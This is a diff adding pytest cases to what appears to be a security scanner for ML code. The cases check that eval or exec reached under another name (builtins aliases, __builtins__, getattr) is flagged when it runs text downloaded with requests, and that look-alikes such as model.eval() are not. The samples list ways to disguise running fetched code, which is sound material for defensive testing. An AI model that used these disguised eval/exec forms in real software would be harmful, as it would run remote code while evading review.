@@ -605,3 +605,36 @@ def test_weights_only_none_is_torchs_default_as_when_left_out(tmp_path: Path) ->
     for call in ("torch.load(p, weights_only=None, pickle_module=pickle)", "torch.load(p, weights_only=None)"):
         found = scan_code(tmp_path, f"import pickle, torch\nsd = {call}\n")
         assert [(f.rule_id, f.severity.value) for f in found] == [("MLS306", "high")], call
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "import builtins\nbuiltins.eval(data)\n",
+        "from builtins import exec as run\nrun(data)\n",
+        "import builtins as b\nb.exec(data)\n",
+        "__builtins__.eval(data)\n",
+        "__builtins__['exec'](data)\n",
+        "import builtins\ngetattr(builtins, 'eval')(data)\n",
+    ],
+)
+def test_eval_or_exec_under_another_name_is_found(tmp_path: Path, call: str) -> None:
+    source = "import requests\ndata = requests.get('https://example.com/x', timeout=5).text\n" + call
+    assert [(f.rule_id, f.severity.value) for f in scan_code(tmp_path, source) if f.rule_id == "MLS333"] == [
+        ("MLS333", "medium")
+    ]
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "eval(data)\n",  # bandit's B307, not this rule
+        "import ast\nast.literal_eval(data)\n",
+        "model.eval()\n",
+        "import builtins\ngetattr(builtins, 'print')(data)\n",
+        "getattr(model, 'eval')()\n",
+        "import builtins\nbuiltins.compile(data, 'x', 'exec')\n",  # compiles, runs nothing
+    ],
+)
+def test_look_alikes_of_a_hidden_eval_are_not_it(tmp_path: Path, call: str) -> None:
+    assert "MLS333" not in [f.rule_id for f in scan_code(tmp_path, "data = input()\n" + call)]
